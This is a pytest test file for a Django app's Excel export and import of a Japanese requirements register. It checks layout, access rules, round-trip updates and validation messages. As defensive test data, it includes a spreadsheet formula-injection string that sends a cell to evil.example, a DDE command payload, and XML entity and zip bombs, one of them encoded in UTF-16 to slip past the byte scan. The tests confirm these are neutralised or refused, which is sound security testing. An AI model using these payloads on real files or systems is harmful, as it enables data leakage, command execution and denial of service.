"""Excel export and all-or-nothing import of the requirements register (要件一覧)."""

import io
import zipfile
from datetime import datetime

import openpyxl
import pytest
from defusedxml import DefusedXmlException
from django.core.exceptions import PermissionDenied
from django.core.files.uploadedfile import SimpleUploadedFile
from django.utils import translation

from shinrai.core.models import AuditEvent, Visibility
from shinrai.requirements import excel, services
from shinrai.requirements.excel import CRITERIA_SHEET, MAIN_SHEET, ImportIssue
from shinrai.requirements.models import AcceptanceCriterion, Requirement
from shinrai.requirements.sentences import sentence_ja

from .conftest import CRITERION

RANGE = {
    "metric": "稼働率",
    "operator": "between",
    "threshold": "99.5",
    "threshold_high": "99.9",
    "unit": "%",
    "condition": "",
    "method": "月次の稼働実績",
}
FIRST_ROW = 4  # row 3 holds the column titles
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
CATS = "可用性 / 性能・拡張性 / 運用・保守性 / 移行性 / セキュリティ / システム環境"
NO_TITLES = (
    "The column titles were not found. Keep the title row of the exported file (for example “要件ID”)."
)
NOT_AN_ID = "“%s” is not a requirement ID. Use IDs like REQ-012, or leave it empty for a new requirement."
NOT_ON_MAIN_SHEET = "%s is not on the sheet “要件一覧”. Criteria can only be given for requirements on it."
PROTECTED = (
    "The file is password-protected or in the old .xls format. Save it as an .xlsx file without a password."
)


@pytest.fixture(autouse=True)
def _english():
    # Messages are asserted in English; Japanese (the default language) has its own test at the end.
    with translation.override("en"):
        yield


@pytest.fixture
def register(cast, make_requirement):
    """Two stakeholders, a goal and two requirements (one vague, one non-functional with two criteria)."""
    pm = cast.users["vendor_pm"]
    manager = services.stakeholder_save(by=pm, project=cast.own, name="工場長", category="executive")
    clerk = services.stakeholder_save(by=pm, project=cast.own, name="出荷担当", category="field_staff")
    goal = services.goal_save(
        by=pm, project=cast.own, title="納期回答の迅速化", success_definition="当日中に回答"
    )
    first = make_requirement("在庫一覧を迅速に表示すること", goal=goal, sources=[manager, clerk])
    second = make_requirement(
        "システムは平日8時から20時まで利用できること",
        kind="non_functional",
        category="availability",
        priority="should",
        criteria=[CRITERION, RANGE],
    )
    return first, second


def export(cast, role="vendor_pm") -> bytes:
    return excel.export_requirements(user=cast.users[role], project=cast.own)


def workbook(data: bytes) -> openpyxl.Workbook:
    return openpyxl.load_workbook(io.BytesIO(data))


def to_bytes(book: openpyxl.Workbook) -> bytes:
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def run_import(user, project, data):
    return excel.import_requirements(user=user, project=project, file=data)


def state(project) -> list:
    """Everything an import could change, to assert that a refused import changed nothing."""
    rows = []
    for r in Requirement.objects.filter(project=project).prefetch_related("criteria", "sources"):
        fields = AcceptanceCriterion.CONTENT_FIELDS
        criteria = [tuple(getattr(c, n) for n in fields) for c in r.criteria.all()]
        sources = sorted(s.pk for s in r.sources.all())
        rows.append((r.ref, r.text, r.kind, r.category, r.priority, r.goal_id, r.status, sources, criteria))
    return [rows, AuditEvent.objects.count()]


def issues(result) -> list[tuple]:
    return [(e.sheet, e.row, e.column, e.message) for e in result.errors]


# --- Export ----------------------------------------------------------------------------------------------


def test_export_layout_is_a_japanese_register(cast, register):
    book = workbook(export(cast))
    assert book.sheetnames == [MAIN_SHEET, CRITERIA_SHEET]
    ws = book[MAIN_SHEET]
    assert ws["A1"].value == "要件一覧　OWN-1　自社案件"
    assert (ws["A2"].value, ws["B2"].value, ws["C2"].value) == ("案件コード", "OWN-1", "出力日時")
    exported = datetime.strptime(ws["D2"].value, "%Y-%m-%d %H:%M (JST)")
    assert exported.year >= 2025
    assert [c.value for c in ws[3]] == [
        "要件ID\nID", "要件\nRequirement", "種別\nKind", "非機能カテゴリ\nNon-functional category",
        "優先度\nPriority (MoSCoW)", "目的\nGoal", "要求元\nSources", "状態\nStatus",
        "受入基準\nAcceptance criteria", "検証可能性の指摘\nVerifiability findings",
    ]  # fmt: skip
    assert ws.freeze_panes == "B4"
    assert ws.auto_filter.ref == "A3:J5"
    assert ws.column_dimensions["B"].width == 60
    assert ws["B4"].alignment.wrap_text
    first, second = (Requirement.objects.get(pk=r.pk) for r in register)
    assert [c.value for c in ws[4]][:8] == [
        "REQ-001", "在庫一覧を迅速に表示すること", "機能", None, "必須", "納期回答の迅速化",
        "工場長, 出荷担当", "下書き",
    ]  # fmt: skip
    assert ws["I4"].value == sentence_ja(first.criteria.get())
    assert first.findings, "the checker should flag 迅速に"
    assert ws["J4"].value.splitlines()[0].startswith("「迅速に」: ")
    assert [c.value for c in ws[5]][:5] == ["REQ-002", second.text, "非機能", "可用性", "推奨"]
    assert ws["I5"].value.splitlines() == [sentence_ja(c) for c in second.criteria.all()]
    assert ws["J5"].value is None

    criteria = book[CRITERIA_SHEET]
    assert criteria.freeze_panes == "B4"
    assert [c.value for c in criteria[3]] == [
        "要件ID\nID", "指標\nMetric", "条件式\nOperator", "閾値\nThreshold", "上限\nUpper threshold",
        "単位\nUnit", "条件\nCondition", "測定方法\nMeasurement method",
    ]  # fmt: skip
    rows = [[c.value for c in row] for row in criteria.iter_rows(min_row=4)]
    assert rows == [
        ["REQ-001", "検索応答時間(95パーセンタイル)", "≤", "2", None, "秒", "同時利用者300人", "負荷試験"],
        ["REQ-002", "検索応答時間(95パーセンタイル)", "≤", "2", None, "秒", "同時利用者300人", "負荷試験"],
        ["REQ-002", "稼働率", "範囲", "99.5", "99.9", "%", None, "月次の稼働実績"],
    ]


def test_export_for_a_customer_has_no_internal_requirements(cast, register, make_requirement):
    make_requirement("原価を社内で管理すること", visibility=Visibility.INTERNAL)
    internal_goal = services.goal_save(
        by=cast.users["vendor_pm"],
        project=cast.own,
        title="社内: 粗利改善",
        success_definition="粗利30%",
        visibility=Visibility.INTERNAL,
    )
    services.requirement_update(by=cast.users["vendor_pm"], requirement=register[1], goal=internal_goal)
    customer = cast.users["customer_member"]
    book = workbook(excel.export_requirements(user=customer, project=cast.own))
    ids = [row[0] for row in book[MAIN_SHEET].iter_rows(min_row=FIRST_ROW, values_only=True)]
    assert ids == ["REQ-001", "REQ-002"]
    assert book[MAIN_SHEET]["F5"].value is None  # the internal goal's title is not shown either
    vendor_book = workbook(excel.export_requirements(user=cast.users["vendor_member"], project=cast.own))
    assert [row[0] for row in vendor_book[MAIN_SHEET].iter_rows(min_row=FIRST_ROW, values_only=True)] == [
        "REQ-001", "REQ-002", "REQ-003",
    ]  # fmt: skip
    assert vendor_book[MAIN_SHEET]["F5"].value == "社内: 粗利改善"


@pytest.mark.parametrize("role", ["outsider_customer", "other_vendor_manager", "outsider_partner"])
def test_export_needs_access_to_the_project(cast, register, role):
    with pytest.raises(PermissionDenied):
        excel.export_requirements(user=cast.users[role], project=cast.own)


def test_markup_in_text_is_not_mistaken_for_xml(cast, make_requirement):
    make_requirement("画面に <!DOCTYPE html> と <!ENTITY x> を表示しないこと")
    result = run_import(cast.users["vendor_pm"], cast.own, export(cast))
    assert (result.errors, result.unchanged) == ([], 1)


def test_export_keeps_formula_like_text_as_text(cast, make_requirement):
    pm_user = cast.users["vendor_pm"]
    services.stakeholder_save(by=pm_user, project=cast.own, name="+81 営業", category="other")
    dangerous = '=HYPERLINK("http://evil.example/?"&A1,"詳細")'
    make_requirement(
        dangerous,
        sources=list(cast.own.stakeholders.all()),
        criteria=[CRITERION | {"metric": "@SUM(1)", "threshold": "-1", "condition": "\t=cmd|' /C calc'!A0"}],
    )
    data = export(cast)
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(name), f"{name} contains a formula"
    book = workbook(data)
    for cell in (book[MAIN_SHEET]["B4"], book[MAIN_SHEET]["G4"]):
        assert cell.data_type == "s" and cell.quotePrefix
    assert book[MAIN_SHEET]["B4"].value == dangerous
    assert book[MAIN_SHEET]["G4"].value == "+81 営業"
    criteria = book[CRITERIA_SHEET]
    assert (criteria["B4"].value, criteria["D4"].value) == ("@SUM(1)", "-1")
    assert all(c.data_type == "s" and c.quotePrefix for c in (criteria["B4"], criteria["D4"], criteria["G4"]))
    assert not book[MAIN_SHEET]["C4"].quotePrefix  # ordinary text keeps the ordinary style
    # The text is unchanged, so the file imports back without changes.
    result = run_import(pm_user, cast.own, data)
    assert (result.errors, result.created, result.updated, result.unchanged) == ([], 0, 0, 1)


# --- Import: round trips ---------------------------------------------------------------------------------


def test_unchanged_file_imports_with_no_updates(cast, register):
    before = state(cast.own)
    result = run_import(cast.users["vendor_pm"], cast.own, export(cast))
    assert (result.errors, result.created, result.updated, result.unchanged) == ([], 0, 0, 2)
    rows, audit_count = state(cast.own)
    assert rows == before[0]
    assert audit_count == before[1] + 1
    event = AuditEvent.objects.filter(action="requirement.import").get()
    assert (event.actor, event.project, event.after) == (
        cast.users["vendor_pm"], cast.own, {"created": 0, "updated": 0, "unchanged": 2},
    )  # fmt: skip


def test_edited_cell_updates_that_requirement_only(cast, register):
    book = workbook(export(cast))
    book[MAIN_SHEET]["B5"] = "システムは平日7時から22時まで利用できること"
    book[MAIN_SHEET]["E5"] = "Must"
    result = run_import(cast.users["vendor_pm"], cast.own, to_bytes(book))
    assert (result.errors, result.created, result.updated, result.unchanged) == ([], 0, 1, 1)
    second = Requirement.objects.get(project=cast.own, number=2)
    assert (second.text, second.priority) == ("システムは平日7時から22時まで利用できること", "must")
    assert second.criteria.count() == 2
    update = AuditEvent.objects.get(action="requirement.update")
    assert update.object_id == str(second.pk)
    assert set(update.after) == {"text", "priority"}


def test_new_row_is_created_with_the_next_number(cast, register):
    services.requirement_withdraw(by=cast.users["vendor_pm"], requirement=register[1])
    book = workbook(export(cast))
    ws = book[MAIN_SHEET]
    new_row = ["帳票をPDFで出力できること", "functional", None, "could", None, "出荷担当"]
    for column, value in zip("BCDEFG", new_row, strict=True):
        ws[f"{column}6"] = value
    result = run_import(cast.users["vendor_pm"], cast.own, to_bytes(book))
    assert (result.errors, result.created, result.updated, result.unchanged) == ([], 1, 0, 2)
    new = Requirement.objects.get(project=cast.own, number=3)
    assert (new.ref, new.text, new.kind, new.priority, new.goal) == (
        "REQ-003", "帳票をPDFで出力できること", "functional", "could", None,
    )  # fmt: skip
    assert [s.name for s in new.sources.all()] == ["出荷担当"]
    assert new.criteria.count() == 0
    assert AuditEvent.objects.filter(action="requirement.create", object_id=str(new.pk)).exists()


def test_criteria_round_trip_and_replacement(cast, register):
    data = export(cast)
    result = run_import(cast.users["vendor_pm"], cast.own, data)
    assert (result.updated, result.unchanged) == (0, 2)

    book = workbook(data)
    criteria = book[CRITERIA_SHEET]
    criteria["D4"] = 3  # a number typed into 閾値 (REQ-001)
    criteria.delete_rows(5)  # REQ-002 loses its response-time criterion, keeps the range
    criteria.append(["REQ-001", "誤出荷率", "<", "0.1", None, "%", None, "出荷実績の集計"])
    main = book[MAIN_SHEET]
    main.append(["NEW-1", "出荷指示をCSVで取り込めること", "機能", None, "必須"])
    criteria.append(["new-1", "取込時間", "≦", "60", None, "秒", "1万行", "計測"])
    result = run_import(cast.users["vendor_pm"], cast.own, to_bytes(book))
    assert (result.errors, result.created, result.updated, result.unchanged) == ([], 1, 2, 0)

    def criteria_of(number):
        requirement = Requirement.objects.get(project=cast.own, number=number)
        criteria = requirement.criteria.all()
        return [(c.metric, c.operator, c.threshold, c.threshold_high, c.unit) for c in criteria]

    assert criteria_of(1) == [
        ("検索応答時間(95パーセンタイル)", "lte", "3", "", "秒"),
        ("誤出荷率", "lt", "0.1", "", "%"),
    ]
    assert criteria_of(2) == [("稼働率", "between", "99.5", "99.9", "%")]
    assert criteria_of(3) == [("取込時間", "lte", "60", "", "秒")]
    assert Requirement.objects.get(project=cast.own, number=3).text == "出荷指示をCSVで取り込めること"


def test_import_keeps_the_rules_of_the_services(cast, register):
    """Findings follow the new text; a changed approved requirement goes back to draft, the others stay."""
    review = services.review_submit(by=cast.users["vendor_pm"], project=cast.own)
    services.review_approve(by=cast.users["customer_sponsor"], review=review)
    book = workbook(export(cast))
    book[MAIN_SHEET]["B4"] = "在庫一覧を95パーセンタイルで2秒以内に表示すること"
    result = run_import(cast.users["vendor_pm"], cast.own, to_bytes(book))
    assert (result.errors, result.updated, result.unchanged) == ([], 1, 1)
    first, second = Requirement.objects.filter(project=cast.own).order_by("number")
    assert (first.status, first.is_verifiable, first.findings) == ("draft", True, [])
    assert second.status == "approved"
    update = AuditEvent.objects.get(action="requirement.update")
    assert update.before == {"text": "在庫一覧を迅速に表示すること", "status": "approved"}
    assert update.after == {"text": "在庫一覧を95パーセンタイルで2秒以内に表示すること", "status": "draft"}


def test_uploaded_file_is_accepted(cast, register):
    upload = SimpleUploadedFile("要件一覧.xlsx", export(cast), content_type=XLSX)
    result = excel.import_requirements(user=cast.users["vendor_member"], project=cast.own, file=upload)
    assert (result.errors, result.unchanged) == ([], 2)


def test_requirement_left_off_the_criteria_sheet_keeps_its_criteria(cast, register):
    book = workbook(export(cast))
    book[CRITERIA_SHEET].delete_rows(5, 2)  # both rows of REQ-002
    result = run_import(cast.users["vendor_pm"], cast.own, to_bytes(book))
    assert (result.errors, result.updated, result.unchanged) == ([], 0, 2)
    assert Requirement.objects.get(project=cast.own, number=2).criteria.count() == 2


def test_japanese_labels_and_code_values_are_both_accepted(cast, register):
    book = workbook(export(cast))
    main = book[MAIN_SHEET]
    main["C4"], main["E4"] = "Functional", "must"  # same values as stored, other spelling
    main["C5"], main["D5"], main["E5"] = "non_functional", "ｾｷｭﾘﾃｨ", "Could"
    book[CRITERIA_SHEET]["C5"] = "<="
    book[CRITERIA_SHEET]["C6"] = "between"
    result = run_import(cast.users["vendor_pm"], cast.own, to_bytes(book))
    assert (result.errors, result.updated, result.unchanged) == ([], 1, 1)
    second = Requirement.objects.get(project=cast.own, number=2)
    assert (second.kind, second.category, second.priority) == ("non_functional", "security", "could")


def test_header_in_japanese_or_english_only_is_accepted(cast, register):
    book = workbook(export(cast))
    book[MAIN_SHEET]["A3"] = "要件ID"
    book[MAIN_SHEET]["B3"] = "Requirement"
    book[MAIN_SHEET]["E3"] = "優先度 / Priority (MoSCoW)"
    result = run_import(cast.users["vendor_pm"], cast.own, to_bytes(book))
    assert (result.errors, result.unchanged) == ([], 2)


def test_optional_columns_can_be_left_out(cast, register):
    book = workbook(export(cast))
    book[MAIN_SHEET].delete_cols(6, 5)  # 目的 … 検証可能性の指摘
    book[CRITERIA_SHEET].delete_cols(5, 1)  # 上限: the range criterion then lacks its upper bound
    result = run_import(cast.users["vendor_pm"], cast.own, to_bytes(book))
    assert issues(result) == [
        (CRITERIA_SHEET, 6, "上限", "A range (範囲) needs an upper threshold."),
    ]


# --- Import: refused files and rows; nothing written -----------------------------------------------------


@pytest.fixture
def refused(cast, register):
    """Import a modified export, check that nothing changed, return the (sheet, row, column, message) list."""

    def run(edit=None, *, data=None):
        if data is None:
            book = workbook(export(cast))
            edit(book)
            data = to_bytes(book)
        before = state(cast.own)
        result = run_import(cast.users["vendor_pm"], cast.own, data)
        assert (result.created, result.updated, result.unchanged) == (0, 0, 0)
        assert state(cast.own) == before
        return issues(result)

    return run


def test_wrong_cell_types_are_reported(refused):
    def edit(book):
        book[MAIN_SHEET]["B4"] = datetime(2025, 4, 1)
        book[MAIN_SHEET]["E5"] = True
        book[CRITERIA_SHEET]["H4"] = datetime(2025, 4, 1)

    assert refused(edit) == [
        (MAIN_SHEET, 4, "要件", "Enter text or a number here, not a date, a time or TRUE/FALSE."),
        (MAIN_SHEET, 5, "優先度", "Enter text or a number here, not a date, a time or TRUE/FALSE."),
        (CRITERIA_SHEET, 4, "測定方法", "Enter text or a number here, not a date, a time or TRUE/FALSE."),
    ]


def test_missing_columns_are_reported(refused):
    def edit(book):
        book[MAIN_SHEET].delete_cols(5)  # 優先度
        book[CRITERIA_SHEET].delete_cols(8)  # 測定方法

    assert refused(edit) == [
        (MAIN_SHEET, 3, "優先度", "This column is missing."),
        (CRITERIA_SHEET, 3, "測定方法", "This column is missing."),
    ]


def test_unknown_and_untitled_columns_are_reported(refused):
    def edit(book):
        book[MAIN_SHEET]["K3"] = "備考"
        book[MAIN_SHEET]["K4"] = "社内メモ"
        book[MAIN_SHEET]["M5"] = "見出しなし"
        book[CRITERIA_SHEET]["C3"] = "指標\nMetric"

    assert refused(edit) == [
        (MAIN_SHEET, 3, "備考", "Unknown column. Remove it or correct its title."),
        (MAIN_SHEET, 5, "M", "This column has values but no title."),
        (CRITERIA_SHEET, 3, "指標", "This column appears more than once."),
        (CRITERIA_SHEET, 3, "条件式", "This column is missing."),
    ]


def test_missing_sheet_and_header_are_reported(refused):
    def edit(book):
        del book[CRITERIA_SHEET]
        book[MAIN_SHEET].delete_rows(3)

    assert refused(edit) == [
        (MAIN_SHEET, None, "", NO_TITLES),
        (CRITERIA_SHEET, None, "", "The sheet “受入基準” is missing."),
    ]  # fmt: skip


def test_unknown_duplicate_and_malformed_ids_are_reported(refused):
    def edit(book):
        main = book[MAIN_SHEET]
        main["A4"] = "REQ-099"
        main.append(["REQ-002", "重複した行", "機能", None, "必須"])
        main.append(["要件7", "不正なID", "機能", None, "必須"])
        book[CRITERIA_SHEET]["A6"] = "req-99"

    assert refused(edit) == [
        (MAIN_SHEET, 4, "要件ID", "REQ-099 does not exist in this project."),
        (MAIN_SHEET, 6, "要件ID", "REQ-002 appears more than once (first on row 5)."),
        (MAIN_SHEET, 7, "要件ID", NOT_AN_ID % "要件7"),
        (CRITERIA_SHEET, 4, "要件ID", NOT_ON_MAIN_SHEET % "REQ-001"),
        (CRITERIA_SHEET, 6, "要件ID", "REQ-099 does not exist in this project."),
    ]  # fmt: skip


def test_file_of_another_project_is_refused(cast, refused):
    services.requirement_create(by=cast.users["vendor_manager"], project=cast.other, text="他案件の要件")

    def edit(book):
        book[MAIN_SHEET]["B2"] = "OTHER-1"

    assert refused(edit) == [(MAIN_SHEET, 2, "案件コード", "This file is for project OTHER-1, not OWN-1.")]


def test_bad_values_are_reported_per_cell(refused):
    def edit(book):
        main = book[MAIN_SHEET]
        main["B4"] = "  "
        main["C4"] = "画面"
        main["E4"] = "最優先"
        main["D5"] = None  # non-functional without a category
        main["F5"] = "存在しない目的"
        main["G5"] = "工場長, 社長"
        main.append([None, "機能要件にカテゴリ", "機能", "性能", "必須"])

    assert refused(edit) == [
        (MAIN_SHEET, 4, "要件", "Enter the requirement."),
        (MAIN_SHEET, 4, "種別", "“画面” is not one of: 機能 / 非機能."),
        (MAIN_SHEET, 4, "優先度", "“最優先” is not one of: 必須 / 推奨 / 可能なら対応 / 今回は対象外."),
        (MAIN_SHEET, 5, "非機能カテゴリ", f"Choose the category of a non-functional requirement: {CATS}."),
        (MAIN_SHEET, 5, "目的", "This project has no goal titled “存在しない目的”."),
        (MAIN_SHEET, 5, "要求元", "This project has no stakeholder named “社長”."),
        (MAIN_SHEET, 6, "非機能カテゴリ", "Leave the category empty for a functional requirement."),
    ]  # fmt: skip


def test_bad_criteria_rows_are_reported(refused):
    def edit(book):
        criteria = book[CRITERIA_SHEET]
        criteria["C4"] = "≒"
        criteria["E5"] = "5"  # an upper bound on a "≤" criterion
        criteria["E6"] = None  # a range without its upper bound
        criteria.append(["REQ-050", "指標", "<", "1", None, None, None, "計測"])
        criteria.append([None, "x" * 201, "<", None, None, None, None, None])

    assert refused(edit) == [
        (CRITERIA_SHEET, 4, "条件式", "“≒” is not one of: ≤ / < / ≥ / > / = / 範囲."),
        (CRITERIA_SHEET, 5, "上限", "An upper threshold is only used with a range (範囲). Leave it empty."),
        (CRITERIA_SHEET, 6, "上限", "A range (範囲) needs an upper threshold."),
        (CRITERIA_SHEET, 7, "要件ID", "REQ-050 does not exist in this project."),
        (CRITERIA_SHEET, 8, "要件ID", "Enter the ID of the requirement this criterion belongs to."),
        (CRITERIA_SHEET, 8, "閾値", "Enter the threshold."),
        (CRITERIA_SHEET, 8, "測定方法", "Enter how it is measured."),
        (CRITERIA_SHEET, 8, "指標", "At most 200 characters (this has 201)."),
    ]


def test_criteria_for_a_requirement_not_on_the_main_sheet_are_refused(refused):
    def edit(book):
        book[MAIN_SHEET].delete_rows(5)  # REQ-002 is left out of the file, its criteria are not

    assert refused(edit) == [
        (CRITERIA_SHEET, 5, "要件ID", NOT_ON_MAIN_SHEET % "REQ-002"),
        (CRITERIA_SHEET, 6, "要件ID", NOT_ON_MAIN_SHEET % "REQ-002"),
    ]  # fmt: skip


def test_bytes_that_are_not_xlsx_are_refused(refused):
    assert refused(data=b"REQ-001,text\n") == [("", None, "", "This is not an Excel file (.xlsx).")]
    other_zip = io.BytesIO()
    with zipfile.ZipFile(other_zip, "w") as archive:
        archive.writestr("word/document.xml", "<w/>")
    assert refused(data=other_zip.getvalue()) == [("", None, "", "This is not an Excel file (.xlsx).")]


def test_password_protected_file_is_refused(refused):
    # An encrypted .xlsx (and an old .xls) is an OLE compound document, not a zip.
    ole = bytes.fromhex("d0cf11e0a1b11ae1") + bytes(504)
    assert refused(data=ole) == [("", None, "", PROTECTED)]


def test_truncated_file_is_refused(cast, refused):
    data = export(cast)
    assert refused(data=data[: len(data) // 2]) == [
        ("", None, "", "The file is damaged and cannot be read. Save it again in Excel and retry.")
    ]


def test_corrupt_sheet_xml_is_refused(cast, refused):
    data = rewrite(export(cast), "xl/worksheets/sheet1.xml", b"<worksheet><sheetData><row r='1'>")
    assert refused(data=data) == [
        ("", None, "", "The file is damaged and cannot be read. Save it again in Excel and retry.")
    ]


def test_oversized_file_is_refused_before_it_is_read(cast, refused):
    class Upload(io.BytesIO):
        size = excel.MAX_FILE_BYTES + 1

        def read(self, *args):
            raise AssertionError("an oversized upload must not be read")

    message = "The file is larger than 5 MB. Split it into smaller files."
    assert refused(data=Upload(b"")) == [("", None, "", message)]
    assert refused(data=b"PK\x03\x04" + bytes(excel.MAX_FILE_BYTES)) == [("", None, "", message)]


def test_too_many_rows_are_refused(cast, refused):
    book = workbook(export(cast))
    ws = book[MAIN_SHEET]
    for _ in range(excel.MAX_ROWS + 1 - 2):
        ws.append([None, "追加の要件", "機能", None, "必須"])
    assert refused(data=to_bytes(book)) == [
        (MAIN_SHEET, None, "", "The sheet “要件一覧” has more than 5,000 rows. Split the file.")
    ]


def test_exactly_the_row_limit_is_accepted(cast, register):
    book = workbook(export(cast))
    ws = book[MAIN_SHEET]
    for _ in range(excel.MAX_ROWS - 2):
        ws.append([None, "追加の要件", "機能", None, "必須"])
    result = run_import(cast.users["vendor_pm"], cast.own, to_bytes(book))
    assert (result.errors, result.created) == ([], excel.MAX_ROWS - 2)


BILLION_LAUGHS = """<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE worksheet [
 <!ENTITY a "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa">
 <!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">
 <!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">
 <!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;">
 <!ENTITY e "&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;">
 <!ENTITY f "&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;">
]>
<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>
<row r="3"><c r="A3" t="inlineStr"><is><t>要件ID</t></is></c>
<c r="B3" t="inlineStr"><is><t>&f;</t></is></c></row>
</sheetData></worksheet>""".encode()
FORBIDDEN_XML = (
    "The file contains XML declarations (DOCTYPE or ENTITY) that are not allowed in an Excel file."
)


def rewrite(data: bytes, member: str, content: bytes) -> bytes:
    source = zipfile.ZipFile(io.BytesIO(data))
    target_buffer = io.BytesIO()
    with zipfile.ZipFile(target_buffer, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            target.writestr(info.filename, content if info.filename == member else source.read(info.filename))
    return target_buffer.getvalue()


def test_xml_bomb_is_refused(cast, refused):
    assert openpyxl.DEFUSEDXML is True
    bomb = rewrite(export(cast), "xl/worksheets/sheet1.xml", BILLION_LAUGHS)
    assert refused(data=bomb) == [("", None, "", FORBIDDEN_XML)]


def test_xml_bomb_hidden_from_the_byte_scan_is_refused_by_defusedxml(cast, refused):
    """UTF-16 hides the DOCTYPE from the first check; the parser (defusedxml) must still refuse it."""
    utf16 = BILLION_LAUGHS.decode().replace('encoding="UTF-8"', 'encoding="UTF-16"').encode("utf-16")
    assert b"<!DOCTYPE" not in utf16
    bomb = rewrite(export(cast), "xl/worksheets/sheet1.xml", utf16)
    with pytest.raises(ValueError) as raised:
        book = openpyxl.load_workbook(io.BytesIO(bomb), read_only=True)
        list(book[MAIN_SHEET].iter_rows(values_only=True))
    assert isinstance(raised.value.__cause__, DefusedXmlException)
    assert refused(data=bomb) == [("", None, "", FORBIDDEN_XML)]


def test_zip_bomb_is_refused(cast, refused):
    filler = b"<!-- " + b" " * (excel.MAX_UNPACKED_BYTES + 1) + b" -->"
    bomb = rewrite(export(cast), "xl/worksheets/sheet2.xml", filler)
    assert len(bomb) < excel.MAX_FILE_BYTES
    assert refused(data=bomb) == [
        ("", None, "", "The file unpacks to more data than an Excel file of this size can hold.")
    ]


# --- Import: who may, and when ---------------------------------------------------------------------------


@pytest.mark.parametrize(
    "role",
    ["customer_sponsor", "customer_member", "partner_viewer", "other_vendor_manager", "outsider_customer"],
)
def test_only_contributors_may_import(cast, register, role):
    data = export(cast)
    before = state(cast.own)
    with pytest.raises(PermissionDenied):
        run_import(cast.users[role], cast.own, data)
    assert state(cast.own) == before


def test_open_customer_review_is_one_clear_error(cast, register):
    book = workbook(export(cast))
    book[MAIN_SHEET]["B4"] = "在庫一覧を2秒以内に表示すること"
    services.review_submit(by=cast.users["vendor_pm"], project=cast.own)
    before = state(cast.own)
    result = run_import(cast.users["vendor_pm"], cast.own, to_bytes(book))
    message = "The requirements are with the customer for review. Withdraw the review to make changes."
    assert issues(result) == [("", None, "", message)]
    assert state(cast.own) == before


def test_errors_come_in_the_users_language(cast, register):
    book = workbook(export(cast))
    book[MAIN_SHEET]["E4"] = "最優先"
    data = to_bytes(book)
    with translation.override("en"):
        (error,) = run_import(cast.users["vendor_pm"], cast.own, data).errors
    english = "“最優先” is not one of: 必須 / 推奨 / 可能なら対応 / 今回は対象外."
    assert error == ImportIssue(MAIN_SHEET, 4, "優先度", english)
    assert str(error) == f"要件一覧 row 4 優先度: {english}"
    japanese = "「最優先」は 必須 / 推奨 / 可能なら対応 / 今回は対象外 のいずれでもありません。"
    with translation.override("ja"):
        (error,) = run_import(cast.users["vendor_pm"], cast.own, data).errors
        assert str(error) == f"要件一覧 4行目 優先度: {japanese}"
    assert error.message == japanese
